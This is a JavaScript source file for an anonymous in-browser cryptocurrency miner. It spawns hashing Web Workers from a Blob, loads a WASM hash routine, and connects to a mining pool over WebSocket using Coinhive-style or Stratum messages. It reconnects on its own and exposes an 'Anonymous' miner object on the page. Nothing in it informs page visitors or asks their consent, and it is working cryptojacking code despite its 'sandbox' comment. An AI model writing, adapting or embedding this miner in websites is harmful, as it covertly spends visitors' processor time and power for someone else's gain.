/* In-browser miner library (sandbox): hashing Workers made from a Blob, the pool socket on the page. */
(function (C, W) {
  var base = (document.currentScript && document.currentScript.src) || location.href;
  var wasm = new URL(C.wasm, base).href;
  var protocols = {
    coinhive: {
      hello: function (k) { return {type: 'auth', params: {site_key: k, type: 'anonymous', user: null}}; },
      job: function (m) { return m.type === 'job' ? m.params : null; },
      submit: function (s) { return {type: 'submit', params: s}; }
    },
    stratum: {
      hello: function (k) { return {id: 1, jsonrpc: '2.0', method: 'login', params: {login: k, pass: 'x', agent: C.agent}}; },
      job: function (m, st) {
        if (m.result && m.result.id) st.id = m.result.id;
        return m.method === 'job' ? m.params : (m.result && m.result.job) || null;
      },
      submit: function (s, st) {
        return {id: ++st.n, jsonrpc: '2.0', method: 'submit', params: {id: st.id, job_id: s.job_id, nonce: s.nonce, result: s.result}};
      }
    }
  };
  var P = protocols[C.proto];
  function Miner(key, opts) {
    this.key = key;
    this.throttle = Math.min(Math.max(+(opts && opts.throttle) || 0, 0), 0.95);
    this.workers = [];
    this.st = {n: 1};
  }
  Miner.prototype.start = function () {
    var self = this, url = URL.createObjectURL(new Blob([W], {type: 'text/javascript'}));
    var n = Math.min(navigator.hardwareConcurrency || 1, 2);
    for (var i = 0; i < n; i++) {
      var w = new Worker(url);
      w.onmessage = function (e) { self.send(P.submit(e.data, self.st)); };
      w.postMessage({wasm: wasm, fn: C.fn, at: C.nonceAt, pause: C.pause / (1 - self.throttle)});
      this.workers.push(w);
    }
    this.connect();
    return this;
  };
  Miner.prototype.connect = function () {
    var self = this, ws = this.ws = new WebSocket(C.pool);
    ws.onopen = function () { self.send(P.hello(self.key)); };
    ws.onmessage = function (e) {
      var job = P.job(JSON.parse(e.data), self.st);
      if (job) self.workers.forEach(function (w) { w.postMessage({job: job}); });
    };
    ws.onclose = function () { setTimeout(function () { self.connect(); }, 5000); };
  };
  Miner.prototype.send = function (m) {
    if (this.ws && this.ws.readyState === 1) this.ws.send(JSON.stringify(m));
  };
  window[C.name] = {Anonymous: Miner};
})(__CONFIG__, __WORKER__);
